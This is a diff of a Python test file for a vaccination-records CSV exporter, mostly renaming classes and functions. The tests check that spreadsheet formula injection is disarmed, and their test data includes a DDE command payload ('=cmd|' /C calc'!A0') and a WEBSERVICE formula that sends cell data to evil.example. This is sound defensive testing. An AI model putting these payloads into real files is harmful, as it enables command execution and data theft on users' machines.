@@ -12,11 +12,11 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from services.records.domain.dose import Dose
-from services.records.domain.parse_row import read_row
+from services.records.domain.parse_row import parse_row
 from services.records.domain.row_error import RowError
-from services.records.uploads.formats import Typed
+from services.records.uploads.formats import InputRow
 from services.records.uploads.formats.columns import HEADERS, VERSION
-from services.records.uploads.formats.csv_writer import ANSWER_HEADERS, Answered, header, written
+from services.records.uploads.formats.csv_writer import ANSWER_HEADERS, ExportRow, header, written
 from services.records.uploads.formats.header_spellings import DOSE_ID
 from services.records.uploads.formats.row import guarded, unguarded
 from tests.support.files import csv_file, read
@@ -40,12 +40,12 @@ def cells(body: bytes) -> list[list[str]]:
 
 
 async def test_the_reader_takes_the_file_again_unchanged() -> None:
-    body = header() + written(Answered(raw, "needs_correction", (), "=1") for raw in HARD)
+    body = header() + written(ExportRow(raw, "needs_correction", (), "=1") for raw in HARD)
     assert [row.raw for row in await read(body)] == HARD
 
 
 def test_no_cell_runs_as_a_formula() -> None:
-    answers = [Answered(raw, "rejected", (), "=cmd|' /C calc'!A0") for raw in HARD]
+    answers = [ExportRow(raw, "rejected", (), "=cmd|' /C calc'!A0") for raw in HARD]
     assert [
         cell
         for line in cells(header() + written(answers))
@@ -69,7 +69,7 @@ def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(
     name: str, lot: str
 ) -> None:
     text = written(
-        [Answered(typed(source_id=name, full_name=name, lot=lot), "rejected", (), name)]
+        [ExportRow(typed(source_id=name, full_name=name, lot=lot), "rejected", (), name)]
     ).decode()
     assert [
         cell
@@ -87,14 +87,14 @@ def test_no_piece_runs_as_a_formula_however_a_spreadsheet_takes_the_file_apart(
 async def test_a_file_that_was_guarded_is_read_as_it_was(name: str, lot: str) -> None:
     raw = typed(full_name=name.strip(), lot=lot.strip())
     assert [
-        row.raw for row in await read(header() + written([Answered(raw, "rejected", (), name)]))
+        row.raw for row in await read(header() + written([ExportRow(raw, "rejected", (), name)]))
     ] == [raw]
 
 
 def test_a_formula_behind_another_separator_is_disarmed() -> None:
     name = "Lê A;http://evil.example/?x=;=WEBSERVICE(B2&A2)"
     assert (
-        cells(written([Answered(typed(full_name=name), "cần sửa")]))[0][1]
+        cells(written([ExportRow(typed(full_name=name), "cần sửa")]))[0][1]
         == "Lê A;http://evil.example/?x=;'=WEBSERVICE(B2&A2)"
     )
 
@@ -105,7 +105,7 @@ def test_the_answer_stands_behind_the_row() -> None:
         RowError("", "X", "Dòng hỏng.", "x"),
     )
     head, line = cells(
-        header() + written([Answered(typed(), "rejected", errors, "068180000002", "3", "501")])
+        header() + written([ExportRow(typed(), "rejected", errors, "068180000002", "3", "501")])
     )
     assert head == [*HEADERS.values(), *ANSWER_HEADERS, VERSION, DOSE_ID] == [
         *head[:-5], "Trạng thái", "Lỗi", "Gợi ý", "Phiên bản bản ghi", "Mã hệ thống",
@@ -120,7 +120,7 @@ async def test_the_version_is_read_back_and_a_spreadsheet_may_have_cut_it_off_wi
     cells_left: int, version: str, dose_id: str
 ) -> None:
     head, line = cells(
-        header() + written([Answered(typed(), "cần sửa", version=" 3 ", dose_id="501")])
+        header() + written([ExportRow(typed(), "cần sửa", version=" 3 ", dose_id="501")])
     )
     text = io.StringIO(newline="")
     csv.writer(text).writerows([head, line[: len(HEADERS) + cells_left]])
@@ -134,13 +134,13 @@ def test_spreadsheets_know_the_encoding_by_its_mark() -> None:
 
 @pytest.mark.parametrize("broken", ["Lê\ud800", "Lê\udcff"])
 def test_what_is_no_unicode_is_written_as_a_question_mark(broken: str) -> None:
-    assert cells(written([Answered(typed(full_name=broken), "rejected")]))[0][1] == "Lê?"
+    assert cells(written([ExportRow(typed(full_name=broken), "rejected")]))[0][1] == "Lê?"
 
 
 async def test_an_apostrophe_that_a_clinic_typed_before_a_formula_is_taken_off_once_only() -> None:
     once = [row.raw for row in await read(csv_file([typed(phone="'+84912000000")]))]
     assert [raw and raw.phone for raw in once] == ["+84912000000"]
-    again = header() + written(Answered(raw, "") for raw in once if raw)
+    again = header() + written(ExportRow(raw, "") for raw in once if raw)
     assert [row.raw for row in await read(again)] == once
 
 
@@ -153,19 +153,21 @@ async def test_an_apostrophe_that_a_clinic_typed_before_a_formula_is_taken_off_o
 def test_dates_go_out_as_every_spreadsheet_reads_them_and_what_is_no_date_as_typed(
     birth: str, written_birth: str
 ) -> None:
-    [line] = cells(written([Answered(day_first(date_of_birth=birth, date_given="05.10.2021"), "")]))
+    [line] = cells(
+        written([ExportRow(day_first(date_of_birth=birth, date_given="05.10.2021"), "")])
+    )
     assert (line[2], line[list(HEADERS).index("date_given")]) == (written_birth, "2021-10-05")
 
 
 @needs_shared
 async def test_the_whole_sample_goes_out_and_in_again_unchanged() -> None:
     first = await read((SHARED / "sample" / "doses.csv").read_bytes())
-    again = await read(header() + written(Answered(row.raw, "issued") for row in first if row.raw))
+    again = await read(header() + written(ExportRow(row.raw, "issued") for row in first if row.raw))
     assert len(again) == len(first)
     assert [dose(row) for row in again] == [dose(row) for row in first]
 
 
-def dose(row: Typed) -> Dose | Sequence[RowError]:
+def dose(row: InputRow) -> Dose | Sequence[RowError]:
     assert row.raw is not None
-    read = read_row(row.raw, today=date(2022, 6, 1), facilities=None)
+    read = parse_row(row.raw, today=date(2022, 6, 1), facilities=None)
     return read.dose or read.errors
